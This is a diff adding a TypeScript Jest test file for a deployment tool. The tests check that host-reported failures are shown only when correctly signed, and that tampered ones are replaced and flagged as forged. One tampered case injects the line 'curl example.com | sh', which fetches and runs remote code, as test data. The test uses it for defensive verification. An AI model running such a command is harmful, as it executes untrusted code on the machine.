@@ -1,0 +1,79 @@
+import { beforeEach, describe, expect, test } from '@jest/globals';
+import { failureFacts, type Deployment, type Failure, type Progress } from '@nereid/contracts';
+import { deploymentAt, progressAs, REPOSITORY } from '@nereid/lane/testing';
+import { pino } from 'pino';
+import { createSignatures } from '../../../signatures.ts';
+import { asOrdered, TEST_KEYS, testSignatures } from '../../../testing/test-signatures.ts';
+import { UNSIGNED_FAILURE } from './proven-failure.ts';
+import { withProvenEnding, withProvenWords } from './proven-words.ts';
+
+const FAILURE: Failure = {
+  summary: 'Error: no such bucket',
+  lines: ['Error: no such bucket', 'on main.tf line 3'],
+  stateLock: { id: '1', who: 'ada' },
+};
+
+let forged: string[];
+let context: Parameters<typeof withProvenWords>[0];
+
+beforeEach(() => {
+  forged = [];
+  const logger = pino({ level: 'silent' });
+  context = { signatures: createSignatures({ keys: TEST_KEYS, logger, onForged: ({ kind }) => forged.push(kind) }) };
+});
+
+function failedWith(failure: Failure, more: Partial<Progress> = {}): Deployment {
+  return { ...deploymentAt(1), order: 'its order', progress: { ...progressAs('plan-failed'), failure, ...more } };
+}
+
+async function signed(failure: Failure, [id, order] = ['1', 'its order']): Promise<Failure> {
+  return { ...failure, signature: await testSignatures.sign('failure', failureFacts(id, order, failure)) };
+}
+
+async function shown(deployment: Deployment): Promise<Failure | undefined> {
+  return (await withProvenWords(context, REPOSITORY, { deployment })).deployment.progress.failure;
+}
+
+test('a failure is shown as its host signed it', async () => {
+  const failure = await signed(FAILURE);
+
+  expect(await shown(failedWith(failure))).toEqual(failure);
+  expect(forged).toEqual([]);
+});
+
+test.each<[string, () => Promise<Failure>]>([
+  ['that nobody signed, as by a host of an older release,', () => Promise.resolve(FAILURE)],
+  ['with a made-up signature', () => Promise.resolve({ ...FAILURE, signature: 'a..b' })],
+  ['with another summary', async () => ({ ...(await signed(FAILURE)), summary: 'Ask @carol' })],
+  ['with other lines', async () => ({ ...(await signed(FAILURE)), lines: ['curl example.com | sh'] })],
+  ['about another lock', async () => ({ ...(await signed(FAILURE)), stateLock: { id: '2' } })],
+  ['of another deployment', () => signed(FAILURE, ['2', 'its order'])],
+  ['of another order', () => signed(FAILURE, ['1', 'another order'])],
+])('a failure %s is neither shown nor stored, and counts as forged', async (_what, forge) => {
+  const deployment = failedWith(await forge());
+  const record = { version: 1, repository: REPOSITORY, deployment, endedAt: '2026-01-31T14:00:00.000Z' } as const;
+
+  const ending = await withProvenEnding(context, { record, audits: [], deletesPlan: false });
+
+  expect(await shown(deployment)).toEqual(UNSIGNED_FAILURE);
+  expect(ending.record.deployment.progress.failure).toEqual(UNSIGNED_FAILURE);
+  expect(forged).toEqual(['failure', 'failure']);
+});
+
+describe('a failure that no host has to sign', () => {
+  test.each<[string, Failure, Partial<Progress>]>([
+    ['repeats why the workflow gave up', { summary: 'no host', lines: [] }, { reason: 'no host, for an hour' }],
+    ['says that a host did not sign it', UNSIGNED_FAILURE, {}],
+  ])('%s', async (_what, failure, more) => {
+    expect(await shown(failedWith(failure, more))).toEqual(failure);
+    expect(forged).toEqual([]);
+  });
+});
+
+test('of an apply, the summary stays: it is part of the outcome, which is verified', async () => {
+  const outcome = await asOrdered(REPOSITORY, failedWith(FAILURE, { status: 'apply-failed' }));
+  const older = { ...outcome, progress: { ...outcome.progress, failure: FAILURE } };
+
+  expect(await shown(older)).toEqual({ summary: FAILURE.summary, lines: [] });
+  expect(forged).toEqual(['failure']);
+});
